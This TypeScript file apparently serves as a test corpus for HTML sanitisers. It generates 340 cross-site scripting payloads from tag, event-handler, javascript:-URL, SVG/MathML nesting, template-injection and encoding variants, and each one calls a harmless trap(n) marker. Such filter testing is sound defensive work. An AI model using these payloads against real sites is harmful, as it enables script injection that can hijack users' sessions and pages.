// Texts that would run a script where a page takes what people write for markup, in the forms that have got through
// filters: by tag, attribute, address, encoding, template and broken nesting. Each calls `trap(number)`.

const call = (nth: number): string => `window.trap&&trap(${nth})`;

const forms: readonly ((js: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<SCRIPT>${js}</SCRIPT>`,
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<img src=x onerror=${js.replaceAll("&&", "&amp;&amp;")}>`,
  (js) => `<IMG """><SCRIPT>${js}</SCRIPT>">`,
  (js) => `<svg onload="${js}">`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
  (js) => `<svg><a xlink:href="javascript:${js}"><text y=20>x</text></a></svg>`,
  (js) => `<math><mtext><table><mglyph><style><img src=x onerror="${js}">`,
  (js) => `<body onload="${js}">`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<iframe src="javascript:parent.${js}"></iframe>`,
  (js) => `<object data="javascript:${js}">`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<details open ontoggle="${js}">x`,
  (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<select autofocus onfocus="${js}">`,
  (js) => `<textarea autofocus onfocus="${js}">`,
  (js) => `<video><source onerror="${js}">`,
  (js) => `<audio src=x onerror="${js}">`,
  (js) => `<marquee onstart="${js}">x</marquee>`,
  (js) => `<style>@import "javascript:${js}";</style>`,
  (js) => `<style onload="${js}"></style>`,
  (js) => `<link rel=stylesheet href="data:text/css,x" onload="${js}">`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<base href="javascript:${js}//">`,
  (js) => `<form action="javascript:${js}"><button autofocus>x</button></form>`,
  (js) => `<a href="javascript:${js}">x</a>`,
  (js) => `<a href="java\tscript:${js}">x</a>`,
  (js) => `<template><script>${js}</script></template>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<custom-element onpointerenter="${js}" style="position:fixed;inset:0">x`,
];

const wrappings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `"'>${text}`,
  (text) => `</textarea></title></style></script>${text}`,
  (text) => `--><!--x-->${text}<!--`,
  (text) => `]]>${text}`,
  (text) => `{{constructor.constructor('x')()}}\${x}${text}`,
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "\\u003c").replaceAll(">", "\\x3e"),
  (text) => text.replaceAll("<", "＜").replaceAll(">", "＞"),
  (text) => `我断缴了${text}四个月`,
];

/** 340 payloads, each with its number. */
export const xssPayloads: readonly string[] = wrappings.flatMap((wrap, row) =>
  forms.map((form, column) => wrap(form(call(row * forms.length + column)))),
);
